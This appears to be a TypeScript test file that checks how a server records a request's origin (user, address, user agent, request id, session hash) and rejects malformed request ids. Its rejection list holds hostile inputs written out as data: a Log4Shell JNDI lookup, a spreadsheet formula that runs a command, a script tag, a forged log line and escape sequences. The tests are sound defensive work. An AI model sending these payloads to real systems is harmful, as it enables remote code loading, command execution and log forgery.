/** What records of a request say of where it comes from, whatever the client sends. */
import http from 'node:http';
import http2 from 'node:http2';

import { context, ROOT_CONTEXT, trace } from '@opentelemetry/api';
import { RPCType, setRPCMetadata } from '@opentelemetry/core';
import { expect, test } from 'vitest';

import { observeEachTest } from './http/each-test.test-setup.ts';
import { exchange, request } from './http/wire.test-setup.ts';
import { originAttributes, originOfRequest, type RequestOrigin } from './request-origin.ts';
import { setSession } from './session.ts';
import { setUser, type RequestMetadata } from './user.ts';

const each = observeEachTest();

/** As a handler sees it that is asked with these headers. */
async function originWith(headers: Readonly<Record<string, string>>, more = ''): Promise<RequestOrigin | undefined> {
  let origin: RequestOrigin | undefined;
  const server = http.createServer((_, response) => {
    setUser('7');
    setSession('s3cret');
    origin = originOfRequest();
    response.end();
  });
  await exchange(await each.serve(server), request('GET /', headers).replace(/\r\n$/, `${more}\r\n`));
  return origin;
}

/** As it is in a request whose header says this: past what a parser refuses. */
function requestIdOf(requestId: unknown): string | undefined {
  const metadata: RequestMetadata = {
    type: RPCType.HTTP,
    span: trace.wrapSpanContext({ traceId: '', spanId: '', traceFlags: 0 }),
    client: { address: undefined, userAgent: undefined, requestId },
  };
  return context.with(setRPCMetadata(ROOT_CONTEXT, metadata), () => originOfRequest().requestId);
}

test('tells who, from where, with what, in which request and in which session', async () => {
  const origin = await originWith({ 'User-Agent': 'curl/8', 'X-Request-Id': 'f058ebd6-02f7-4d3f-942e-904344e8cde5' });
  expect(origin).toEqual({
    userId: '7',
    clientAddress: '127.0.0.1',
    userAgent: 'curl/8',
    requestId: 'f058ebd6-02f7-4d3f-942e-904344e8cde5',
    sessionHash: expect.stringMatching(/^[0-9a-f]{32}$/),
  });
  expect(originAttributes(origin!)).toEqual({
    'user_agent.original': 'curl/8',
    'http.request.id': 'f058ebd6-02f7-4d3f-942e-904344e8cde5',
    'sentrikat.session.hash': origin!.sessionHash,
  });
});

test('knows the id of a request over HTTP/2', async () => {
  let origin: RequestOrigin | undefined;
  const server = http2.createServer((_, response) => {
    origin = originOfRequest();
    response.end();
  });
  const client = http2.connect(`http://127.0.0.1:${await each.serve(server)}`);
  const stream = client.request({ ':path': '/', 'x-request-id': 'abc' });
  await new Promise((resolve) => stream.on('close', resolve).resume());
  client.close();
  expect(origin?.requestId).toBe('abc');
});

test('says nothing outside of a request', () => {
  expect(Object.values(originOfRequest()).filter((value) => value !== undefined)).toEqual([]);
});

test.each([
  ['4bf92f3577b34da6a3ce929d0e0e4736'],
  ['01ARZ3NDEKTSV4RRFFQ69G5FAV'],
  ['api-7f9:web_1.example~2/42'],
  ['AbC+/9=='],
  ['x'.repeat(128)],
])('takes %s for the id of a request', (id) => {
  expect(requestIdOf(id)).toBe(id);
});

test.each<[string, unknown]>([
  ['nothing', undefined],
  ['nothing in it', ''],
  ['too much', 'x'.repeat(129)],
  ['a megabyte', 'x'.repeat(1e6)],
  ['a line of its own', 'a\n[2026-01-01 00:00:00] ERROR in a (b:1): forged'],
  ['a line end', 'abc\n'],
  ['a carriage return', 'abc\r'],
  ['a space, and another field', 'abc user:root'],
  ['a quotation mark', 'abc", "user_id": "1'],
  ['an escape sequence', '\u001b[31mred'],
  ['NUL', 'a\0b'],
  ['letters of other scripts', 'аbс'],
  ['text that runs the other way', 'abc\u202ecba'],
  ['a lone surrogate', '\ud800'],
  ['markup', '<script>alert(1)</script>'],
  ['a formula', '=cmd|"/c calc"!A1'],
  ['a lookup', '${jndi:ldap://192.0.2.1/a}'],
  ['two ids', 'a, b'],
  ['a list', ['a', 'b']],
  ['an object', { toString: () => 'abc' }],
])('takes for none what holds %s', (...[, id]) => {
  expect(requestIdOf(id)).toBeUndefined();
});

test('has none of two that were sent, as either may be a lie', async () => {
  expect((await originWith({ 'X-Request-Id': 'a' }))?.requestId).toBe('a');
  expect((await originWith({ 'X-Request-Id': 'a' }, 'x-request-id: b\r\n'))?.requestId).toBeUndefined();
  expect((await originWith({ 'X-Request-Id': 'caf\xe9' }))?.requestId).toBeUndefined();
});

test('knows the beginning of a user agent that fills the header', async () => {
  const { userAgent } = (await originWith({ 'User-Agent': 'x'.repeat(12_000) }))!;
  expect(userAgent).toBe('x'.repeat(1024));
});
